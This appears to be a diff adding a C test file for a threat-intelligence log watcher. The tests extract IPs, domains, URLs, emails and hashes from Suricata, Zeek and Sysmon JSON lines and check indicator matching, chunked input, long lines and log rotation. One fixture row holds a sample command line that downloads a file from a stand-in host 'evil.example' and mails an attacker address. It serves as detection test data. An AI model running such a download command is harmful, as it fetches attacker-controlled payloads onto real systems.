@@ -1,0 +1,182 @@
+#include "detect/watch.h"
+
+#include <fcntl.h>
+#include <unistd.h>
+
+#include "detect/observe.h"
+#include "tap.h"
+
+static const char *const kind_names[] = { "ipv4", "ipv6", "domain", "url", "email", "md5", "sha1", "sha256", "sha512" };
+
+/* "kind=value@field kind=value@field" sorted as found. */
+static void describe(const struct event_view *e, struct buf *out)
+{
+	for (size_t i = 0; i < e->n; i++)
+		buf_fmt(out, "%s%s=%.*s@%.*s", i > 0 ? " " : "", kind_names[e->list[i].kind], STR(e->list[i].value), STR(e->list[i].field));
+}
+
+static void test_formats(void)
+{
+	static const struct {
+		const char *name, *line, *want, *where;
+		usec at;
+	} rows[] = {
+		{ "Suricata EVE, DNS",
+		  "{\"timestamp\":\"2026-11-22T08:00:00.500000+0800\",\"event_type\":\"dns\",\"src_ip\":\"10.0.0.5\",\"dest_ip\":\"198.51.100.1\","
+		  "\"host\":\"fw1\",\"dns\":{\"rrname\":\"Evil.Example\"}}",
+		  "ipv4=10.0.0.5@src_ip ipv4=198.51.100.1@dest_ip domain=evil.example@dns.rrname", "fw1", 1795305600500000 },
+		{ "Suricata EVE, HTTP: host and path are one URL",
+		  "{\"timestamp\":\"2026-11-22T00:00:00.000000+0000\",\"http\":{\"hostname\":\"evil.example\",\"url\":\"/a?b=1\"}}",
+		  "url=http://evil.example/a?b=1@http.url domain=evil.example@http.hostname", "", 1795305600000000 },
+		{ "Zeek conn", "{\"ts\":1795305600.25,\"id.orig_h\":\"2001:db8::5\",\"id.resp_h\":\"203.0.113.9\",\"proto\":\"tcp\"}",
+		  "ipv6=2001:db8::5@id.orig_h ipv4=203.0.113.9@id.resp_h", "2001:db8::5", 1795305600250000 },
+		{ "Zeek http", "{\"ts\":1795305600,\"host\":\"evil.example\",\"uri\":\"/x\"}",
+		  "url=http://evil.example/x@uri domain=evil.example@host", "evil.example", 1795305600000000 },
+		{ "Sysmon as Winlogbeat writes it",
+		  "{\"@timestamp\":\"2026-11-22T00:00:00.000Z\",\"host\":{\"name\":\"pc7\"},\"winlog\":{\"event_data\":{\"Hashes\":"
+		  "\"MD5=D41D8CD98F00B204E9800998ECF8427E,SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709\"}}}",
+		  "md5=d41d8cd98f00b204e9800998ecf8427e@winlog.event_data.Hashes "
+		  "sha1=da39a3ee5e6b4b0d3255bfef95601890afd80709@winlog.event_data.Hashes",
+		  "pc7", 1795305600000000 },
+		{ "an address with its port, in an array", "{\"peers\":[\"198.51.100.7:443\",\"[2001:db8::9]:53\"]}",
+		  "ipv4=198.51.100.7@peers.0 ipv6=2001:db8::9@peers.1", "", 0 },
+		{ "inside a command line", "{\"CommandLine\":\"curl -o x http://evil.example/p.bin && mail a@evil.example\"}",
+		  "url=http://evil.example/p.bin@CommandLine email=a@evil.example@CommandLine", "", 0 },
+		{ "nothing to see", "{\"a\":1,\"b\":\"hello\",\"c\":null,\"d\":[true,{}]}", "", "", 0 },
+	};
+	struct arena *a = arena_new((size_t)64 << 20);
+
+	for (size_t i = 0; i < COUNTOF(rows); i++) {
+		struct event_view e;
+		struct buf got;
+
+		arena_reset(a);
+		buf_init(&got, 65536);
+		OK(event_observe(a, str_of(rows[i].line), &e, NULL) == RC_OK, "%s: read", rows[i].name);
+		describe(&e, &got);
+		EQ_STR(buf_view(&got), str_of(rows[i].want), rows[i].name);
+		EQ_STR(e.where, str_of(rows[i].where), "  where");
+		EQ_INT(e.at, rows[i].at, "  when");
+		buf_done(&got);
+	}
+	arena_free(a);
+}
+
+static void count_hit(void *ctx, const struct hit *h)
+{
+	int *n = ctx;
+
+	(*n)++;
+	if (!str_eq(h->indicator, S("indicator--00000000-0000-4000-8000-000000000001")) || !str_eq(h->input, S("t")))
+		*n += 1000;
+}
+
+static struct image *one_domain(void)
+{
+	struct image *m = image_new(1000);
+	struct image_indicator i = { .id = S("indicator--00000000-0000-4000-8000-000000000001"),
+				     .pattern = S("[domain-name:value = 'evil.example']"), .valid_from = INT64_MIN };
+
+	OK(image_update(m, &i, NULL) == RC_OK, "an image with one domain");
+	return m;
+}
+
+/* However the bytes are cut, the same lines come out: in = good + bad, always. */
+static void test_pieces(void)
+{
+	static const char text[] = "{\"d\":\"a.evil.example\"}\n\nnot json\n{\"d\":\"good.example\"}\r\n[1]\n{\"d\":\"evil.example\"}";
+	struct image *m = one_domain();
+
+	for (size_t piece = 1; piece <= sizeof text; piece += piece < 4 ? 1 : 7) {
+		struct watch *w = NULL;
+		struct watch_stats st;
+		int hits = 0;
+		bool good = watch_new(m, S("t"), count_hit, &hits, &w, NULL) == RC_OK;
+
+		for (size_t at = 0; at < sizeof text - 1; at += piece)
+			good &= watch_feed(w, str_slice(str_make(text, sizeof text - 1), at, at + piece), NULL) == RC_OK;
+		good &= watch_end(w, NULL) == RC_OK;
+		watch_stats(w, &st);
+		OK(good && hits == 2 && st.lines == 5 && st.bad_lines == 2 && st.hits == 2, "pieces of %zu", piece);
+		watch_free(w);
+	}
+	image_free(m);
+}
+
+static void test_long_line(void)
+{
+	struct image *m = one_domain();
+	struct watch *w = NULL;
+	struct watch_stats st;
+	int hits = 0;
+	char piece[65536];
+	bool good = watch_new(m, S("t"), count_hit, &hits, &w, NULL) == RC_OK;
+
+	memset(piece, 'x', sizeof piece);
+	for (size_t n = 0; n <= WATCH_LINE_MAX; n += sizeof piece)
+		good &= watch_feed(w, str_make(piece, sizeof piece), NULL) == RC_OK;
+	good &= watch_feed(w, S("\n{\"d\":\"evil.example\"}\n"), NULL) == RC_OK;
+	watch_stats(w, &st);
+	OK(good && st.lines == 2 && st.bad_lines == 1 && hits == 1, "a line that is too long is skipped, the next is read");
+	OK(strstr(watch_last_error(w), "longer than") != NULL, "and it is said why: %s", watch_last_error(w));
+	watch_free(w);
+	image_free(m);
+}
+
+static void append(const char *path, const char *text)
+{
+	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
+
+	if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text))
+		OK(false, "cannot write %s", path);
+	if (fd >= 0)
+		close(fd);
+}
+
+static void test_follow(void)
+{
+	char dir[] = "/tmp/lf-watch-XXXXXX", path[64], old[64];
+	struct image *m = one_domain();
+	struct watch *w = NULL;
+	uint64_t offset = 0, inode = 0, kept;
+	int hits = 0;
+	bool more;
+
+	OK(mkdtemp(dir) != NULL && watch_new(m, S("t"), count_hit, &hits, &w, NULL) == RC_OK, "a folder");
+	snprintf(path, sizeof path, "%s/log", dir);
+	snprintf(old, sizeof old, "%s/log.1", dir);
+	OK(follow_read(path, &offset, &inode, w, &more, NULL) == RC_NOTFOUND, "not there yet");
+	append(path, "{\"d\":\"evil.example\"}\n{\"d\":\"evi");
+	OK(follow_read(path, &offset, &inode, w, &more, NULL) == RC_OK && hits == 1 && offset == 21, "a torn line waits");
+	kept = offset;
+	append(path, "l.example\"}\n");
+	OK(follow_read(path, &offset, &inode, w, &more, NULL) == RC_OK && hits == 2, "and is matched when whole");
+	OK(rename(path, old) == 0, "rotation");
+	append(path, "{\"d\":\"b.evil.example\"}\n");
+	OK(follow_read(path, &offset, &inode, w, &more, NULL) == RC_OK && hits == 3, "the new file is read from its start");
+	OK(truncate(path, 0) == 0, "truncation");
+	append(path, "{\"d\":\"x.evil.example\"}\n");
+	OK(truncate(path, 0) == 0, "again");
+	OK(follow_read(path, &offset, &inode, w, &more, NULL) == RC_OK && offset == 0, "the place goes back");
+	watch_free(w);
+	OK(watch_new(m, S("t"), count_hit, &hits, &w, NULL) == RC_OK, "after a restart");
+	offset = kept;
+	inode = 0;
+	hits = 0;
+	append(path, "{\"d\":\"evil.example\"}\n");
+	OK(follow_read(path, &offset, &inode, w, &more, NULL) == RC_OK && hits == 1, "another file than the kept place says is read whole");
+	unlink(path);
+	unlink(old);
+	rmdir(dir);
+	watch_free(w);
+	image_free(m);
+}
+
+int main(void)
+{
+	test_formats();
+	test_pieces();
+	test_long_line();
+	test_follow();
+	return tap_done();
+}
